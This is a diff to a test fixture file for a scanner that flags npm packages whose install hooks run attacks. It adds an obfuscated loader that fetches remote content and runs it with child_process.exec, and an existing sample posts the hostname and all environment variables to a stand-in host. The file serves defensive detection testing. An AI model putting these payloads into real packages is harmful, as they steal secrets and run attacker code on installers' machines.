@@ -21,14 +21,33 @@ const THEFT =
   'const o = { h: os.hostname(), e: process.env }; https.request({ hostname: "collect.example", method: "POST" }).end(JSON.stringify(o))'
 const theft = (name: string): FileFacts => member(name, scripted('javascript', THEFT))
 
+const table = (...words: readonly string[]): string =>
+  `var _0x4f1a=${JSON.stringify(words.map((one) => Buffer.from(one).toString('base64')))};function _0x1c3b(_0x2d){_0x2d=_0x2d-0x0;return Buffer.from(_0x4f1a[_0x2d],'base64').toString();}\n`
+const DISGUISED = `${table('child_process', 'exec', 'https', 'request', 'hostname')}const h=require(_0x1c3b('0x2')),c=require(_0x1c3b('0x0'));h[_0x1c3b('0x3')](u,{method:'POST'},_0xe=>{let _0xf='';_0xe.on('data',_0x10=>_0xf+=_0x10);_0xe.on('end',()=>{c[_0x1c3b('0x1')](_0xf,{windowsHide:!0x0})})}).end();`
+
 export const PACKAGES: FactCases = {
   package_hook_runs_attack: {
     hits: {
       'a file beside the manifest': { children: [manifest('node setup.js'), theft('package/setup.js')] },
+      'a file that nobody can read': {
+        children: [manifest('node setup.js'), member('package/setup.js', scripted('javascript', DISGUISED))],
+      },
       'in a folder': { children: [manifest('node ./scripts/post.js'), theft('package/scripts/post.js')] },
     },
     misses: {
       'a file that no hook names': { children: [manifest('node build.js'), theft('package/setup.js')] },
+      'a file that nobody can read and that only computes': {
+        children: [
+          manifest('node setup.js'),
+          member(
+            'package/setup.js',
+            scripted(
+              'javascript',
+              `${table('floor', 'random', 'round')}console.log(Math[_0x1c3b('0x0')](Math[_0x1c3b('0x1')]()*10))`,
+            ),
+          ),
+        ],
+      },
       'a hook that builds': {
         children: [
           manifest('node build.js'),
